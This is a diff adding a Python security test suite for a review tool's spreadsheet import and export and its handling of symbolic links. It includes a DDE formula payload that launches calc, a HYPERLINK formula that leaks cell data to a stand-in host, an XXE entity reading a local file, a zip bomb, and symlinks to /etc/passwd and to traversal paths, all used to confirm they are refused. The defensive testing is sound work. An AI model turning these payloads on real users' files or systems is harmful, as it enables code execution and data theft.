@@ -1,0 +1,267 @@
+"""Hostile input to the newer tasks: spreadsheets in and out, and links planted where a task writes.
+
+Each case is an attack a pull request or a returned spreadsheet could make
+(docs/security.md): a study field that Excel would run as a formula, an
+extraction sheet built to exhaust memory or resolve an XML entity, a symbolic
+link placed where import-studies, new-study, export-studies, supplements,
+checklist or diff write, a link committed to the history diff copies out.
+Everything runs for real (openpyxl, LibreOffice, git, invoke) on copies of
+the example reviews.
+"""
+
+from __future__ import annotations
+
+import csv
+import re
+import io
+import os
+import shutil
+import subprocess
+import sys
+import zipfile
+from pathlib import Path
+
+import openpyxl
+import pytest
+from conftest import REPO, copy_reference_review
+
+from charter.revision.diff import DiffError, data_changes_between
+from charter.start.exporter import ExportError, export_studies
+from charter.start.importer import ImportFailed, import_studies, new_study, read_sheet
+from charter.submission.supplements import SupplementError, write_supplements
+
+EXAMPLE = REPO / "examples" / "asymptomatic-covid"
+FORMULAS = {"participants.description": "=cmd|' /C calc'!A0",
+            "design.method": '=HYPERLINK("http://example.invalid/?x="&A1,"click")',
+            "research_question": "+1+1", "findings": "@SUM(1+1)"}
+
+
+def _example(tmp_path: Path) -> Path:
+    root = tmp_path / "review"
+    shutil.copytree(EXAMPLE, root, ignore=shutil.ignore_patterns("build"))
+    return root
+
+
+def _plant_formulas(root: Path) -> Path:
+    """Give one study of the reference review texts that a spreadsheet program would take as formulas."""
+    study = root / "studies" / "andrea2016.yaml"
+    text = study.read_text(encoding="utf-8")
+    lines = [f"research_question: '{FORMULAS['research_question']}'"]
+    body = "\n".join(line for line in text.splitlines() if not line.startswith("research_question:"))
+    study.write_text(body + "\n" + "\n".join(lines) + "\n", encoding="utf-8")
+    method = FORMULAS["design.method"].replace("'", "''")
+    text = study.read_text(encoding="utf-8")
+    text = re.sub(r"(?m)^  method: .*$", f"  method: '{method}'", text, count=1)
+    study.write_text(text, encoding="utf-8")
+    return study
+
+
+def _run(root: Path, *args: str) -> subprocess.CompletedProcess:
+    env = {**os.environ, "PYTHONPATH": str(REPO)}
+    return subprocess.run([sys.executable, "-m", "invoke", *args], cwd=root, capture_output=True, text=True,
+                          env=env, timeout=600)
+
+
+# ------------------------------------------------------------ formulas going out
+
+
+def test_exported_xlsx_keeps_formula_like_texts_as_text_and_libreoffice_does_not_run_them(tmp_path):
+    root = copy_reference_review(tmp_path / "reference")
+    study = _plant_formulas(root)
+    before = study.read_bytes()
+    path, _ = export_studies(root, "xlsx")
+    sheet = openpyxl.load_workbook(path).active
+    header = [c.value for c in sheet[1]]
+    row = next(r for r in sheet.iter_rows(min_row=2) if r[0].value == "andrea2016")
+    method = row[header.index("design.method")]
+    assert method.value == FORMULAS["design.method"] and method.data_type == "s"
+    assert not any(c.data_type == "f" for r in sheet.iter_rows() for c in r)
+    # LibreOffice opens it as a user would and shows the text, not a computed value
+    out = tmp_path / "lo"
+    subprocess.run(["soffice", f"-env:UserInstallation=file://{tmp_path}/profile", "--headless", "--convert-to",
+                    "csv", "--outdir", str(out), str(path)], check=True, capture_output=True, timeout=300)
+    text = (out / "studies.csv").read_text(encoding="utf-8")
+    assert "=HYPERLINK(" in text and "+1+1" in text
+    # and the sheet imports back without changing a byte
+    code = import_studies(root, path, update=True, out=io.StringIO())
+    assert code == 0 and study.read_bytes() == before
+
+
+def test_exported_csv_guards_formula_like_texts_and_imports_back_unchanged(tmp_path):
+    root = copy_reference_review(tmp_path / "reference")
+    study = _plant_formulas(root)
+    before = study.read_bytes()
+    path, _ = export_studies(root, "csv")
+    rows = list(csv.reader(path.read_text(encoding="utf-8-sig").splitlines()))
+    header = rows[0]
+    row = next(r for r in rows if r[0] == "andrea2016")
+    assert row[header.index("design.method")] == "'" + FORMULAS["design.method"]
+    assert row[header.index("research_question")] == "'+1+1"
+    assert not any(cell.startswith(("=", "+", "@")) for r in rows for cell in r)
+    out = io.StringIO()
+    assert import_studies(root, path, update=True, out=out) == 0, out.getvalue()
+    assert study.read_bytes() == before
+
+
+def test_the_supplementary_extraction_table_holds_no_formula(tmp_path):
+    root = copy_reference_review(tmp_path / "reference")
+    _plant_formulas(root)
+    write_supplements(root, root / "build" / "supplements")
+    book = openpyxl.load_workbook(root / "build" / "supplements" / "extraction-table.xlsx")
+    cells = [c for sheet in book for r in sheet.iter_rows() for c in r]
+    assert any(c.value == FORMULAS["design.method"] for c in cells)
+    assert not any(c.data_type == "f" for c in cells)
+
+
+# ------------------------------------------------------------ sheets coming in
+
+
+def _sheet_with(tmp_path: Path, part: str, transform) -> Path:
+    base = tmp_path / "base.xlsx"
+    book = openpyxl.Workbook()
+    book.active.append(["id", "country"])
+    book.active.append(["abdulrahman2020", "COUNTRY"])
+    book.save(base)
+    out = tmp_path / "hostile.xlsx"
+    with zipfile.ZipFile(base) as source, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
+        for name in source.namelist():
+            data = source.read(name)
+            target.writestr(name, transform(data) if name == part else data)
+    return out
+
+
+def test_an_xlsx_with_an_external_entity_is_refused_unread(tmp_path):
+    secret = tmp_path / "secret.txt"
+    secret.write_text("the secret", encoding="utf-8")
+
+    def xxe(data: bytes) -> bytes:
+        body = data.decode().split("?>", 1)[-1]
+        return (f'<?xml version="1.0"?><!DOCTYPE w [<!ENTITY e SYSTEM "file://{secret}">]>'
+                + body.replace("COUNTRY", "&e;")).encode()
+
+    path = _sheet_with(tmp_path, "xl/worksheets/sheet1.xml", xxe)
+    with pytest.raises(ImportFailed, match=r"hostile\.xlsx: xl/worksheets/sheet1\.xml declares a DTD or entities"):
+        read_sheet(path)
+
+
+def test_an_xlsx_zip_bomb_is_refused_before_it_is_unpacked(tmp_path):
+    def bomb(data: bytes) -> bytes:
+        return data.replace(b"<sheetData>", b"<sheetData>" + b" " * (200 * 2**20))
+
+    path = _sheet_with(tmp_path, "xl/worksheets/sheet1.xml", bomb)
+    assert path.stat().st_size < 2**20
+    with pytest.raises(ImportFailed, match="unpacks over 500 times larger than it is packed"):
+        read_sheet(path)
+
+
+def test_damaged_sheet_xml_is_a_message_not_a_traceback(tmp_path):
+    path = _sheet_with(tmp_path, "xl/worksheets/sheet1.xml", lambda data: data.replace(b"</sheetData>", b""))
+    with pytest.raises(ImportFailed, match=r"cannot be read as an Excel workbook .*save it again"):
+        read_sheet(path)
+
+
+def test_a_sheet_far_wider_or_longer_than_any_review_is_refused(tmp_path):
+    wide = tmp_path / "wide.csv"
+    wide.write_text(",".join(f"c{i}" for i in range(100_000)) + "\n" + "1," * 100_000 + "\n", encoding="utf-8")
+    with pytest.raises(ImportFailed, match=r"wide\.csv: line 1 has more than 2,000 columns"):
+        read_sheet(wide)
+    long = tmp_path / "long.csv"
+    long.write_text("id\n" + "x\n" * 60_000, encoding="utf-8")
+    with pytest.raises(ImportFailed, match=r"long\.csv: more than 50,000 rows"):
+        read_sheet(long)
+    big = tmp_path / "big.csv"
+    big.write_text("id,findings\nx," + "y" * 21_000_000 + "\n", encoding="utf-8")
+    with pytest.raises(ImportFailed, match=r"big\.csv is 21 MB, over Charter's limit of 20 MB"):
+        read_sheet(big)
+    book = openpyxl.Workbook()
+    book.active.cell(row=1, column=3000, value="far right")
+    book.save(tmp_path / "wide.xlsx")
+    with pytest.raises(ImportFailed, match=r"wide\.xlsx: sheet 'Sheet': more than 2,000 columns"):
+        read_sheet(tmp_path / "wide.xlsx")
+
+
+def test_a_cell_over_the_csv_modules_limit_is_a_message_through_invoke(tmp_path):
+    root = _example(tmp_path)
+    sheet = tmp_path / "huge-cell.csv"
+    sheet.write_text("id,design.method\nabdulrahman2020," + "x" * 200_000 + "\n", encoding="utf-8")
+    done = _run(root, "import-studies", str(sheet), "--dry-run")
+    assert done.returncode == 1
+    assert "Traceback" not in done.stderr + done.stdout
+    assert "huge-cell.csv: row 2 cannot be read as CSV" in done.stderr + done.stdout
+
+
+# ------------------------------------------------------------ links where tasks write
+
+
+def test_import_never_writes_through_a_planted_link(tmp_path):
+    root = _example(tmp_path)
+    outside = tmp_path / "outside.yaml"  # does not exist yet: a dangling link looks like a new study
+    (root / "studies" / "abdulrahman2020.yaml").unlink()
+    (root / "studies" / "abdulrahman2020.yaml").symlink_to(outside)
+    sheet = tmp_path / "sheet.csv"
+    sheet.write_text("id,design.method\nabdulrahman2020,cohort\n", encoding="utf-8")
+    out = io.StringIO()
+    assert import_studies(root, sheet, out=out) == 1
+    assert "studies/abdulrahman2020.yaml is a symbolic link" in out.getvalue()
+    assert not outside.exists()
+    with pytest.raises(ImportFailed, match="studies/abdulrahman2020.yaml is a symbolic link"):
+        new_study(root, "abdulrahman2020")
+    assert not outside.exists()
+
+
+def test_a_linked_studies_folder_is_never_written_into(tmp_path):
+    root = _example(tmp_path)
+    elsewhere = tmp_path / "elsewhere"
+    elsewhere.mkdir()
+    shutil.rmtree(root / "studies")
+    (root / "studies").symlink_to(elsewhere)
+    with pytest.raises(ImportFailed):
+        new_study(root, "abdulrahman2020")
+    assert list(elsewhere.iterdir()) == []
+
+
+@pytest.mark.parametrize("link", ["build", "build/supplements"])
+def test_outputs_are_never_written_through_a_linked_build_folder(tmp_path, link):
+    root = _example(tmp_path)
+    elsewhere = tmp_path / "elsewhere"
+    elsewhere.mkdir()
+    (root / link).parent.mkdir(parents=True, exist_ok=True)
+    (root / link).symlink_to(elsewhere, target_is_directory=True)
+    if link == "build":
+        with pytest.raises(ExportError, match=f"{link} is a symbolic link"):
+            export_studies(root, "xlsx")
+    with pytest.raises(SupplementError, match=f"{link} is a symbolic link"):
+        write_supplements(root, root / "build" / "supplements")
+    if link == "build":
+        done = _run(root, "checklist", "--no-build")
+        assert done.returncode == 1 and "build is a symbolic link" in done.stderr and "Traceback" not in done.stderr
+    assert list(elsewhere.iterdir()) == []
+
+
+def _git(root: Path, *args: str) -> None:
+    subprocess.run(["git", "-c", "user.name=A", "-c", "user.email=a@example.invalid", *args], cwd=root, check=True,
+                   capture_output=True)
+
+
+def test_diff_copies_out_no_link_from_the_history_and_writes_through_none(tmp_path):
+    root = _example(tmp_path)
+    _git(root, "init", "-q")
+    _git(root, "add", "-A")
+    _git(root, "commit", "-qm", "first")
+    _git(root, "tag", "v1")
+    (root / "studies" / "passwd.yaml").symlink_to("/etc/passwd")
+    (root / "studies" / "up.yaml").symlink_to("../../../../outside.yaml")
+    _git(root, "add", "-A")
+    _git(root, "commit", "-qm", "links")
+    found = data_changes_between(root, "v1", "HEAD")  # no tarfile error: the links are left out of the copy
+    assert found is not None
+    copies = list((root / "build" / "diff" / "versions").glob("*/studies"))
+    assert copies and not any((c / "passwd.yaml").is_symlink() or (c / "up.yaml").is_symlink() for c in copies)
+
+    shutil.rmtree(root / "build" / "diff")
+    elsewhere = tmp_path / "elsewhere"
+    elsewhere.mkdir()
+    (root / "build" / "diff").symlink_to(elsewhere, target_is_directory=True)
+    with pytest.raises(DiffError, match="build/diff is a symbolic link"):
+        data_changes_between(root, "v1", "HEAD")
+    assert list(elsewhere.iterdir()) == []
